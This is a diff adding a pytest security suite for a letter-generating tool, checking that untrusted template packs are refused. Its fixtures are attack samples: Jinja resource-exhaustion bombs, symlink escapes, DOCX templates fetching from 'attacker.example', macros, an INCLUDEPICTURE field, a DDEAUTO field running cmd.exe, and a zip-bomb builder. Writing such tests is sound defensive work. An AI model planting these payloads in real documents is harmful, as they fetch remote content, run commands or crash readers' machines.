@@ -1,0 +1,693 @@
+"""Strangers' template packs, written as attacks: a template sees plain data only, cannot
+follow links out of its folder, cannot exhaust the machine, and a DOCX layout template cannot
+make Word fetch anything, run macros or blow up in memory. And every value a template prints
+arrives verbatim in every output of every kind, or the command fails."""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import threading
+import time
+import tracemalloc
+import zipfile
+import zlib
+from dataclasses import replace
+from datetime import date, datetime, timedelta, timezone
+from datetime import time as clock_time
+from decimal import Decimal
+from email import message_from_bytes, policy
+from pathlib import Path
+from typing import Any
+
+import pytest
+from docx import Document
+
+from letters import content, templating
+from letters.case import Case, load_case
+from letters.content import (
+    CARRIER_KINDS,
+    COMPANIONS,
+    KINDS,
+    MESSAGE_PARTS,
+    render_letter,
+    required_values,
+)
+from letters.errors import InputError, LettersError, RenderError
+from letters.render.docx import render_docx
+from letters.render.email import build_email
+from letters.render.pdf import render_pdf
+from letters.render.postal import PRINTED
+from letters.sandbox import MAX_SECONDS, Leaf, LimitError, Record
+from tests.conftest import ROOT, SAMPLES, run
+from tests.test_pdf import appears, pdf_text, without_page_labels
+
+DAY = date(2026, 12, 24)
+LATE = SAMPLES / "case-late-en.toml"
+DOCX = ROOT / "templates" / "standard" / "docx" / "en.docx"
+
+
+def pack(tmp_path: Path, body: str, subject: str = "S") -> Path:
+    """Write a template pack whose English request has `body`; return its folder."""
+    folder = tmp_path / "pack"
+    (folder / "letters").mkdir(parents=True, exist_ok=True)
+    (folder / "letters" / "request.en.j2").write_text(
+        f"{{% block subject %}}{subject}{{% endblock %}}\n{{% block body %}}\n{body}\n"
+        "{% endblock %}\n",
+        encoding="utf-8",
+    )
+    return folder
+
+
+# --- 1. templates see plain data only ------------------------------------------------------------
+
+PLAIN = str | bool | int | float | Decimal | date | clock_time | timedelta | None | tuple | Record
+
+
+def reachable(value: Any, path: str = "") -> list[tuple[str, Any]]:
+    """Return every value inside a template context, with its path."""
+    found = [(path, value)]
+    if isinstance(value, Record):
+        for name in value:
+            found += reachable(value[name], f"{path}.{name}")
+    elif isinstance(value, dict):
+        for name, item in value.items():
+            found += reachable(item, name)
+    elif isinstance(value, tuple):
+        for n, item in enumerate(value):
+            found += reachable(item, f"{path}[{n}]")
+    return found
+
+
+def contexts() -> list[tuple[str, dict[str, Any]]]:
+    case = load_case(LATE)
+    found = [
+        (f"{kind}.{language}", content.context(case, kind, language, DAY))
+        for kind in (*KINDS, "complaint-ag")
+        for language in ("en", "zh-CN")
+    ]
+    letter = render_letter(case, "complaint", "en", DAY)
+    from letters.render.docx import _context
+
+    found.append(("docx", {k: templating.inert(v, k) for k, v in _context(case, letter).items()}))
+    return found
+
+
+@pytest.mark.parametrize(
+    ("name", "context"), contexts(), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_a_template_context_holds_plain_data_only(name: str, context: dict[str, Any]) -> None:
+    for path, value in reachable(context)[1:]:
+        assert isinstance(value, PLAIN | datetime), (path, type(value))
+        if isinstance(value, datetime):
+            assert value.tzinfo is None or type(value.tzinfo) is timezone, path
+    if "case" in context:
+        assert isinstance(context["case"].path, Record)  # the case file's Path is gone
+        assert str(context["case"].path).endswith("case-late-en.toml")
+
+
+ARGUMENTS = ("()", "(victim)", "(victim, 'pwned')", "(victim, victim)", "('pwned')")
+
+
+def every_callable(context: dict[str, Any]) -> dict[tuple[type, str], str]:
+    """Return, for each type of value a context holds (and what hangs off it, two steps
+    deep), one path to it per public attribute: what a template could try to call."""
+    seen: dict[tuple[type, str], str] = {}
+    frontier = [(path, value) for path, value in reachable(context)[1:]]
+    for _depth in range(2):
+        following = []
+        for path, value in frontier:
+            for attribute in dir(value):
+                if attribute.startswith("_") or (type(value), attribute) in seen:
+                    continue
+                seen[(type(value), attribute)] = path
+                inner = getattr(value, attribute, None)
+                if not callable(inner):
+                    following.append((f"{path}.{attribute}", inner))
+        frontier = following
+    return seen
+
+
+def test_a_template_cannot_read_write_or_delete_through_anything_it_holds(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    case_path = tmp_path / "case.toml"
+    case_path.write_text(LATE.read_text(encoding="utf-8"), encoding="utf-8")
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me", encoding="utf-8")
+    case = load_case(case_path)
+    variables = content.context(case, "complaint", "en", DAY)
+    variables["victim"] = str(victim)
+    env = templating.environment([], content.filters(case, "en"))
+    attempts = every_callable(variables)
+    assert len(attempts) > 100  # str, Decimal, date and datetime methods at least
+    called = 0
+    for (_kind, attribute), path in sorted(attempts.items(), key=lambda item: item[1]):
+        for arguments in ARGUMENTS:
+            source = f"{{{{ {path}.{attribute}{arguments} }}}}"
+            try:
+                env.from_string(source).render(variables)
+                called += 1
+            except Exception:
+                pass
+    assert called > 50
+    # Nothing was written, read into being, or deleted: the folder is as it was.
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["case.toml", "victim.txt"]
+    assert victim.read_text(encoding="utf-8") == "keep me"
+    assert case_path.read_text(encoding="utf-8") == LATE.read_text(encoding="utf-8")
+
+
+def test_the_case_file_path_cannot_write_as_it_could_before(tmp_path: Path) -> None:
+    victim = tmp_path / "case.toml"
+    victim.write_text(LATE.read_text(encoding="utf-8"), encoding="utf-8")
+    folder = pack(
+        tmp_path,
+        '{{ case.path.write_text("pwned") }}{{ case.path.unlink() }}{{ case.path.read_text() }}',
+    )
+    result = run("email", victim, "--templates", folder, "-o", tmp_path / "out")
+    assert result.exit_code == 1
+    assert result.stderr.startswith("Error: request.en.j2:3: template error: ")
+    assert "has no attribute 'write_text'" in result.stderr
+    assert victim.read_text(encoding="utf-8") == LATE.read_text(encoding="utf-8")
+    assert not (tmp_path / "out").exists()
+
+
+# --- 2. no links out of a template folder --------------------------------------------------------
+
+
+def linked_pack(tmp_path: Path, how: str) -> Path:
+    """Build a pack whose request template reaches a secret file by a link of kind `how`."""
+    secret = tmp_path / "outside" / "letters" / "request.en.j2"
+    secret.parent.mkdir(parents=True)
+    secret.write_text(
+        "{% block subject %}SECRET-SUBJECT{% endblock %}{% block body %}SECRET{% endblock %}"
+    )
+    folder = tmp_path / "pack"
+    (folder / "letters").mkdir(parents=True)
+    target = folder / "letters" / "request.en.j2"
+    if how == "symlinked file":
+        target.symlink_to(secret)
+    elif how == "symlinked folder":
+        (folder / "letters").rmdir()
+        (folder / "letters").symlink_to(secret.parent)
+    elif how == "hard link":
+        os.link(secret, target)
+    elif how == "included symlink":
+        (folder / "letters" / "part.j2").symlink_to(secret)
+        target.write_text(
+            "{% block subject %}S{% endblock %}{% block body %}"
+            '{% include "letters/part.j2" %}{% endblock %}'
+        )
+    elif how == "included hard link":
+        os.link(secret, folder / "letters" / "part.j2")
+        target.write_text(
+            "{% block subject %}S{% endblock %}{% block body %}"
+            '{% include "letters/part.j2" %}{% endblock %}'
+        )
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("how", "message"),
+    [
+        ("symlinked file", "letters/request.en.j2: letters/request.en.j2 is a symbolic link"),
+        ("symlinked folder", "letters/request.en.j2: letters is a symbolic link"),
+        ("hard link", "letters/request.en.j2: the file has other names (hard links)"),
+        ("included symlink", "letters/part.j2: letters/part.j2 is a symbolic link"),
+        ("included hard link", "letters/part.j2: the file has other names (hard links)"),
+    ],
+)
+def test_a_linked_template_is_refused(tmp_path: Path, how: str, message: str) -> None:
+    folder = linked_pack(tmp_path, how)
+    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
+    assert result.exit_code == 2, result.stderr
+    assert result.stderr.startswith("Error: ") and message in result.stderr, result.stderr
+    assert result.stderr.count("\n") == 1
+    assert not (tmp_path / "o").exists()
+
+
+def test_a_template_cannot_include_a_file_above_its_folder(tmp_path: Path) -> None:
+    (tmp_path / "secret.j2").write_text("SECRET")
+    folder = pack(tmp_path, '{% include "../secret.j2" %}')
+    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
+    assert result.exit_code == 1
+    assert result.stderr == "Error: template not found: ../secret.j2\n"
+
+
+def test_an_oversized_template_is_refused(tmp_path: Path) -> None:
+    folder = pack(tmp_path, "x" * (templating.MAX_TEMPLATE_BYTES + 1))
+    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
+    assert (result.exit_code, result.stderr) == (
+        2,
+        "Error: letters/request.en.j2: the file is larger than the limit of 256 KB\n",
+    )
+
+
+def test_a_linked_docx_layout_template_is_refused(tmp_path: Path) -> None:
+    folder = tmp_path / "pack"
+    (folder / "docx").mkdir(parents=True)
+    (folder / "docx" / "en.docx").symlink_to(DOCX)
+    result = run("letter", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
+    assert result.exit_code == 2
+    assert "docx/en.docx: docx/en.docx is a symbolic link" in result.stderr
+
+
+# --- 3. bounded time, size and memory ------------------------------------------------------------
+
+BOMBS = {
+    "string repetition": '{{ "x" * 10**9 }}',
+    "doubling with ~": '{% set ns = namespace(s="x") %}{% for i in range(64) %}'
+    "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
+    "doubling with +": '{% set ns = namespace(s="x") %}{% for i in range(64) %}'
+    "{% set ns.s = ns.s + ns.s %}{% endfor %}",
+    "list repetition": "{{ (range(100000)|list) * 100000 }}",
+    "printing shared strings": '{{ ["x" * 999999] * 99999 }}',
+    "center": '{{ "x"|center(10**9) }}',
+    "indent": '{{ ("x\\n" * 400000)|indent(900000) }}',
+    "format filter": '{{ "%0999999999d"|format(1) }}',
+    "printf": '{{ ("%s" * 90000) % (("x" * 999999,) * 90000) }}',
+    "str.format": '{{ ("{0}" * 200000).format("x" * 999999) }}',
+    "format width": '{{ "{:>999999999}".format(1) }}',
+    "join": '{{ (["x" * 999999] * 99999)|join }}',
+    "replace": '{{ "ab"|replace("", "x" * 999999) }}',
+    "str.replace": '{{ "ab".replace("", "x" * 999999) }}',
+    "wordwrap": '{{ ("x " * 100000)|wordwrap(1, wrapstring="y" * 999) }}',
+    "tojson": '{{ (["<" * 999999] * 99999)|tojson }}',
+    "batch": '{{ range(10)|batch(10**9, "x")|list }}',
+    "ljust": '{{ "x".ljust(10**9) }}',
+    "power": "{{ 2 ** 100000 }}",
+    "squaring": "{% set ns = namespace(n=3) %}{% for i in range(100) %}"
+    "{% set ns.n = ns.n * ns.n %}{% endfor %}",
+    "lipsum": "{{ lipsum(n=10**6) }}",
+    "many made values": '{{ range(100000)|map("string")|map("center", 999999)|join }}',
+    "empty nested loops": "{% for i in range(100000) %}{% for j in range(100000) %}"
+    "{% endfor %}{% endfor %}",
+    "nested loops over strings": '{% for a in "x" * 100000 %}{% for b in "x" * 100000 %}'
+    "{% endfor %}{% endfor %}",
+    "nested output": "{% for i in range(100000) %}{% for j in range(100000) %}{{ j }}"
+    "{% endfor %}{% endfor %}",
+    "literal output": "{% for i in range(100000) %}{% for j in range(100000) %}LITERAL"
+    "{% endfor %}{% endfor %}",
+}
+LIMITS = re.compile(
+    r"the template (ran past its time limit \(1 seconds of processing\)"
+    r"|made a value over its size limit \((1,000,000 characters|100,000 items|4096 bits)\)"
+    r"|made more than its memory limit \(64 MB\)"
+    r"|wrote more than its output limit \(8,000,000 characters\))$"
+)
+
+
+@pytest.mark.parametrize("bomb", BOMBS)
+def test_a_template_bomb_fails_fast_with_bounded_memory(tmp_path: Path, bomb: str) -> None:
+    folder = pack(tmp_path, BOMBS[bomb])
+    case = load_case(SAMPLES / "case-en.toml")
+    tracemalloc.start()
+    cpu = time.thread_time()
+    try:
+        with pytest.raises(LimitError) as raised:
+            render_letter(case, "request", "en", DAY, folder)
+        used = time.thread_time() - cpu
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    message = raised.value.message
+    assert re.match(r"(letters/)?request\.en\.j2(:\d+)?: ", message), message
+    assert LIMITS.search(message), message
+    assert used < MAX_SECONDS + 1.5, used  # processor time: the machine's load does not count
+    assert peak < 150_000_000, peak
+
+
+def test_a_time_bomb_is_stopped_in_a_server_thread_too(tmp_path: Path) -> None:
+    folder = pack(tmp_path, BOMBS["empty nested loops"])
+    case = load_case(SAMPLES / "case-en.toml")
+    outcome: list[BaseException] = []
+
+    def render() -> None:
+        try:
+            render_letter(case, "request", "en", DAY, folder)
+        except BaseException as error:
+            outcome.append(error)
+
+    thread = threading.Thread(target=render)
+    thread.start()
+    thread.join(timeout=60)
+    assert not thread.is_alive()
+    assert isinstance(outcome[0], LimitError)
+    assert "time limit" in str(outcome[0])
+
+
+def test_a_bomb_fails_with_one_error_line_and_exit_2(tmp_path: Path) -> None:
+    folder = pack(tmp_path, BOMBS["string repetition"])
+    result = run("email", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
+    assert (result.exit_code, result.stderr) == (
+        2,
+        "Error: request.en.j2:3: the template made a value over its size limit "
+        "(1,000,000 characters)\n",
+    )
+
+
+def test_ordinary_template_code_still_works(tmp_path: Path) -> None:
+    folder = pack(
+        tmp_path,
+        "{% set ns = namespace(n=0) %}{% for e in events %}{% set ns.n = ns.n + 1 %}{% endfor %}"
+        '{{ "%d events" % ns.n }}, {{ "{} & {}".format(account.carrier, holder.name) }},'
+        ' {{ events|map(attribute="party")|select|join(", ") }},'
+        ' {{ (account.carrier ~ "!")|center(30)|trim }}, {{ range(3)|list }},'
+        ' {{ holder.address.city|upper }}, {{ "ab" * 3 }}, {{ 2 ** 10 }}',
+    )
+    case = load_case(SAMPLES / "case-en.toml")
+    letter = render_letter(case, "request", "en", DAY, folder)
+    assert (
+        letter.paragraphs[0]
+        == (
+            f"{len(case.events)} events, {case.account.carrier} & {case.holder.name}, "
+            + ", ".join(e.party for e in case.events if e.party)
+            + f", {case.account.carrier}!, [0, 1, 2], {case.holder.address.city.upper()}, "  # type: ignore[union-attr]
+            "ababab, 1024"
+        )
+    )
+
+
+# --- 4. DOCX layout templates from a pack --------------------------------------------------------
+
+
+def docx_with(changes: dict[str, bytes | None], source: Path = DOCX) -> bytes:
+    """Return the built-in layout template with parts added, replaced or (None) removed."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
+        for entry in old.infolist():
+            if entry.filename not in changes:
+                new.writestr(entry, old.read(entry))
+        for name, data in changes.items():
+            if data is not None:
+                new.writestr(name, data)
+    return buffer.getvalue()
+
+
+def rels(*relationships: str) -> bytes:
+    body = "".join(relationships)
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+        f'"http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
+    ).encode()
+
+
+def letter_with_layout(tmp_path: Path, data: bytes):
+    folder = tmp_path / "pack"
+    (folder / "docx").mkdir(parents=True, exist_ok=True)
+    (folder / "docx" / "en.docx").write_bytes(data)
+    return run("letter", SAMPLES / "case-en.toml", "--templates", folder, "-o", tmp_path / "o")
+
+
+REMOTE = "http://attacker.example/template.dotm"
+FOOTER = zipfile.ZipFile(DOCX).read("word/footer1.xml")
+
+
+@pytest.mark.parametrize(
+    ("changes", "message"),
+    [
+        (  # the remote-template trick: Word fetches the attached template on opening
+            {
+                "word/_rels/settings.xml.rels": rels(
+                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+                    '2006/relationships/attachedTemplate"'
+                    f' Target="{REMOTE}" TargetMode="External"/>'
+                )
+            },
+            "docx/en.docx: the part word/_rels/settings.xml.rels points outside the document "
+            f"(attachedTemplate: {REMOTE})",
+        ),
+        (  # a linked picture, fetched when the letter is opened
+            {
+                "word/_rels/document.xml.rels": rels(
+                    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/'
+                    '2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId99" '
+                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
+                    ' Target="\\\\attacker.example\\share\\x.png" TargetMode="External"/>'
+                )
+            },
+            "docx/en.docx: the part word/_rels/document.xml.rels points outside the document "
+            "(image: \\\\attacker.example\\share\\x.png)",
+        ),
+        (
+            {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
+            "docx/en.docx: the layout template contains macros (word/vbaProject.bin)",
+        ),
+        (
+            {
+                "[Content_Types].xml": zipfile.ZipFile(DOCX)
+                .read("[Content_Types].xml")
+                .replace(b"document.main+xml", b"document.macroEnabled.main+xml")
+            },
+            "docx/en.docx: the layout template contains macros ([Content_Types].xml)",
+        ),
+        (
+            {"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x/>'},
+            "docx/en.docx: the part word/styles.xml declares a document type",
+        ),
+        (  # a field that fetches a picture from an address, its code split across two runs
+            {
+                "word/footer1.xml": FOOTER.replace(
+                    b"</w:p>",
+                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
+                    b'</w:instrText></w:r><w:r><w:instrText>PICTURE "http://attacker.example/p.png"'
+                    b"</w:instrText></w:r></w:p>",
+                    1,
+                )
+            },
+            "docx/en.docx: the part word/footer1.xml has a INCLUDEPICTURE field",
+        ),
+        (
+            {
+                "word/footer1.xml": FOOTER.replace(
+                    b"</w:p>",
+                    b'<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/></w:p>',
+                    1,
+                )
+            },
+            "docx/en.docx: the part word/footer1.xml has a DDEAUTO field",
+        ),
+    ],
+    ids=[
+        "attached template",
+        "external picture",
+        "vbaProject",
+        "macro content type",
+        "doctype",
+        "INCLUDEPICTURE",
+        "DDEAUTO",
+    ],
+)
+def test_a_dangerous_docx_layout_template_is_refused(
+    tmp_path: Path, changes: dict[str, bytes | None], message: str
+) -> None:
+    result = letter_with_layout(tmp_path, docx_with(changes))
+    assert result.exit_code == 2, result.stderr
+    assert result.stderr.startswith(f"Error: {message}"), result.stderr
+    assert result.stderr.count("\n") == 1
+    assert not (tmp_path / "o").exists()
+
+
+def zip_bomb(size: int, claimed: int | None = None) -> bytes:
+    """Return the layout template with a word/document.xml that inflates to `size` bytes,
+    its directory claiming `claimed` bytes (a lie) if given."""
+    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = b"<w:p/>" * (1 << 16)
+    chunks = [squeeze.compress(block) for _ in range(size // len(block))] + [squeeze.flush()]
+    deflated = b"".join(chunks)
+    crc = 0  # of the real data, as an honest writer would compute it
+    for _ in range(size // len(block)):
+        crc = zlib.crc32(block, crc)
+    name = b"word/document.xml"
+    says = size // len(block) * len(block) if claimed is None else claimed
+    local = (
+        b"PK\x03\x04" + (20).to_bytes(2, "little") + b"\0\0" + (8).to_bytes(2, "little")
+        + b"\0\0\0\0" + crc.to_bytes(4, "little") + len(deflated).to_bytes(4, "little")
+        + says.to_bytes(4, "little") + len(name).to_bytes(2, "little") + b"\0\0" + name
+    )  # fmt: skip
+    central = (
+        b"PK\x01\x02" + (20).to_bytes(2, "little") * 2 + b"\0\0" + (8).to_bytes(2, "little")
+        + b"\0\0\0\0" + crc.to_bytes(4, "little") + len(deflated).to_bytes(4, "little")
+        + says.to_bytes(4, "little") + len(name).to_bytes(2, "little") + b"\0" * 12
+        + (0).to_bytes(4, "little") + name
+    )  # fmt: skip
+    body = local + deflated
+    end = (
+        b"PK\x05\x06" + b"\0" * 4 + (1).to_bytes(2, "little") * 2
+        + len(central).to_bytes(4, "little") + len(body).to_bytes(4, "little") + b"\0\0"
+    )  # fmt: skip
+    return body + central + end
+
+
+@pytest.mark.parametrize("claimed", [None, 5000], ids=["honest directory", "lying directory"])
+def test_a_docx_zip_bomb_fails_fast_with_bounded_memory(
+    tmp_path: Path, claimed: int | None
+) -> None:
+    bomb = zip_bomb(1 << 30, claimed)  # 1 GB of XML
+    assert len(bomb) < 2_000_000
+    folder = tmp_path / "pack"
+    (folder / "docx").mkdir(parents=True)
+    (folder / "docx" / "en.docx").write_bytes(bomb)
+    case = load_case(SAMPLES / "case-en.toml")
+    letter = render_letter(case, "request", "en", DAY)
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        with pytest.raises(InputError) as raised:
+            render_docx(case, letter, template_dir=folder)
+        took = time.perf_counter() - started
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert raised.value.message.startswith("docx/en.docx: "), raised.value.message
+    # An honest directory is refused for its sizes; a lying one when the part runs past
+    # what the directory claims and its checksum fails.
+    assert re.search("zip bomb|cannot be read", raised.value.message), raised.value.message
+    assert took < 5, took
+    assert peak < 50_000_000, peak
+
+
+def test_an_oversized_docx_layout_template_is_refused(tmp_path: Path) -> None:
+    result = letter_with_layout(tmp_path, b"PK" + b"\0" * (10 * 1024 * 1024))
+    assert (result.exit_code, result.stderr) == (
+        2,
+        "Error: docx/en.docx: the file is larger than the limit of 10240 KB\n",
+    )
+
+
+def test_a_plain_docx_layout_template_from_a_pack_still_works(tmp_path: Path) -> None:
+    result = letter_with_layout(tmp_path, DOCX.read_bytes())
+    assert result.exit_code == 0, result.stderr
+    assert (tmp_path / "o" / "request.en.docx").is_file()
+
+
+# --- 5. fidelity on every output of every kind ---------------------------------------------------
+
+LONG = "Lorem ipsum dolor sit amet " * 12 + "終"
+SUBSTITUTIONS = {
+    '"Xiaoming Wang"': '"Xiaoming {{ Wang }} & <Co>"',
+    '"Example Mobile Customer Care"': '"AT&T <Care> {% raw %}"',
+    '"Example Mobile"': '"A&B <Mobile> {{ x }}"',
+    '"Agent Lisa"': '"客服 Lisa <b>&amp; {{ 1 }}"',
+    '"CS-12345"': '"CS-12345&<1>"',
+    '"Chat agent Priya"': '"Chat agent Priya Lorem ipsum & <consectetur> 客服人員 {{ 95 }}"',
+    '"Chat confirmed closure by email or letter; said the balance is not refundable."': f'"{LONG}"',
+    '"CHAT-80122"': '"參考 <80122> & {#"',
+    '"Example Bank"': '"Bank & <Trust> {{ card }}"',
+    '"International calling add-on"': '"國際 & <add-on> {%"',
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Case:
+    text = LATE.read_text(encoding="utf-8")
+    for old, new in SUBSTITUTIONS.items():
+        assert old in text
+        text = text.replace(old, new)
+    path = tmp_path_factory.mktemp("hostile") / "case.toml"
+    path.write_text(text, encoding="utf-8")
+    return load_case(path)
+
+
+def docx_text(data: bytes) -> str:
+    return "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
+
+
+def outputs(case: Case, kind: str, language: str) -> list[tuple[str, str, dict[str, str]]]:
+    """Render every output of a kind; return (name, its text read back, what it must carry)."""
+    letters = [render_letter(case, kind, language, DAY)]
+    letters += [render_letter(case, k, language, DAY) for k in COMPANIONS.get(kind, ())]
+    if language == "en":
+        letters.append(render_letter(case, "explain", "zh-CN", DAY, explaining=kind))
+    found = []
+    for letter in letters:
+        name = f"{letter.kind}.{letter.language}"
+        if letter.recipient.email and not letter.sheet:
+            draft = build_email(case, letter)
+            message = message_from_bytes(draft.eml, policy=policy.default)
+            shown = f"{message['Subject']}\n{message.get_body(('plain',)).get_content()}"  # type: ignore[union-attr]
+            found.append(
+                (f"{name}.eml", shown, required_values(letter, ("subject", *MESSAGE_PARTS)))
+            )
+            found.append((f"{name}.txt", draft.text, required_values(letter, MESSAGE_PARTS)))
+        pdf = without_page_labels(pdf_text(render_pdf(case, letter, envelope=None).data))
+        found.append((f"{name}.pdf", pdf, required_values(letter, PRINTED)))
+        if not letter.sheet:
+            found.append(
+                (
+                    f"{name}.docx",
+                    docx_text(render_docx(case, letter)),
+                    required_values(letter, PRINTED),
+                )
+            )
+    return found
+
+
+@pytest.mark.parametrize(
+    ("kind", "language"),
+    # Letters to the carrier come in Chinese too; the others go to readers of English only.
+    [(k, lang) for k in KINDS for lang in ("en", "zh-TW") if lang == "en" or k in CARRIER_KINDS],
+)
+def test_every_output_of_every_kind_carries_every_value_its_template_printed(
+    hostile: Case, kind: str, language: str
+) -> None:
+    for name, text, values in outputs(hostile, kind, language):
+        missing = [key for key, value in values.items() if appears(value, text) < 0]
+        assert not missing, f"{name} lacks {missing}"
+        assert "&amp;amp;" not in text and "&lt;" not in text, name
+    letter = render_letter(hostile, kind, language, DAY)
+    printed = required_values(letter)
+    hostile_keys = {"account.carrier", "holder.name_en" if language == "en" else "holder.name"}
+    if kind in ("complaint", "follow-up"):
+        hostile_keys |= {"events[1].party", "events[1].reference", "events[4].party"}
+    if kind == "card-dispute":
+        hostile_keys |= {"charges[2].description"}
+    assert hostile_keys <= printed.keys(), sorted(printed)
+
+
+def test_a_layout_that_loses_a_printed_value_fails_and_names_it(
+    hostile: Case, tmp_path: Path
+) -> None:
+    # A layout template that changes what it prints: "A&B" would not arrive as written.
+    data = DOCX.read_bytes()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        body = archive.read("word/document.xml").decode()
+    assert "{{ item }}" in body
+    tidy = body.replace("{{ item }}", '{{ item|replace("A", "a") }}')
+    folder = tmp_path / "pack"
+    (folder / "docx").mkdir(parents=True)
+    (folder / "docx" / "en.docx").write_bytes(docx_with({"word/document.xml": tidy.encode()}))
+    letter = render_letter(hostile, "complaint", "en", DAY)
+    with pytest.raises(RenderError, match=r"^\.docx: .* does not appear verbatim"):
+        render_docx(hostile, letter, template_dir=folder)
+
+
+def test_a_template_that_mangles_a_value_it_printed_fails(tmp_path: Path) -> None:
+    # `pad` prints the value; a second filter then changes it: the letter is not written.
+    folder = pack(tmp_path, "{{ (account.carrier|pad)|replace('a', 'A') }} {{ holder.name }}")
+    case = load_case(SAMPLES / "case-en.toml")
+    case = replace(case, account=replace(case.account, carrier="Example Mobile"))
+    with pytest.raises(LettersError, match=r"account\.carrier does not appear verbatim"):
+        render_letter(case, "request", "en", DAY, folder)
+
+
+def test_each_value_remembers_its_key() -> None:
+    case = load_case(LATE)
+    view = content.context(case, "complaint", "en", DAY)
+    assert isinstance(view["events"][0].party, Leaf)
+    assert view["events"][0].party._key == "events[1].party"
+    assert view["holder_name"]._key == "holder.name_en"
+
+
+# --- templates export, then use: end to end ------------------------------------------------------
+
+
+def test_templates_export_then_kit_with_them(tmp_path: Path) -> None:
+    mine = tmp_path / "mine"
+    assert run("templates", "export", mine).exit_code == 0
+    result = run("kit", LATE, "--templates", mine, "-o", tmp_path / "out", "--date", "2026-12-24")
+    assert result.exit_code == 0, result.stderr
+    names = {p.name for p in (tmp_path / "out").rglob("*")}
+    assert {"request.en.eml", "request.en.pdf", "request.en.docx"} <= names
